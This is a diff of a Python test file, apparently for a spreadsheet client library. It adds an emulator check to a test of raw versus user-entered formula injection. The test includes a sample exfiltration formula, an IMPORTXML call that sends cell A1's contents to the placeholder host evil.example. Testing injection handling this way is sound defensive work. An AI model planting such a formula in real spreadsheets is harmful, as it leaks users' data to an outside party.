@@ -70,7 +70,7 @@ def test_batch_get_one_request(gc, sh, emulator):
     assert sh.sheet1.batch_get(["A1:A2", "B2"]) == [[["1"], ["3"]], [["4"]]]
 
 
-def test_raw_versus_user_entered_formula_injection(sh):
+def test_raw_versus_user_entered_formula_injection(sh, emulator):
     ws = sh.sheet1
     evil = '=IMPORTXML("http://evil.example/?d="&A1,"//a")'
     ws.update([[evil, "0123", "2025-10-01"]], "A1", value_input_option=ValueInputOption.raw)
@@ -83,6 +83,7 @@ def test_raw_versus_user_entered_formula_injection(sh):
     rows = grid["sheets"][0]["data"][0]["rowData"]
     assert rows[0]["values"][0]["userEnteredValue"] == {"stringValue": evil}
     assert rows[1]["values"][0]["userEnteredValue"] == {"formulaValue": evil}
+    assert emulator.formula_cells(sh.id) == [("Sheet1", "A2", evil)]
 
 
 def test_update_response_and_limits(sh):
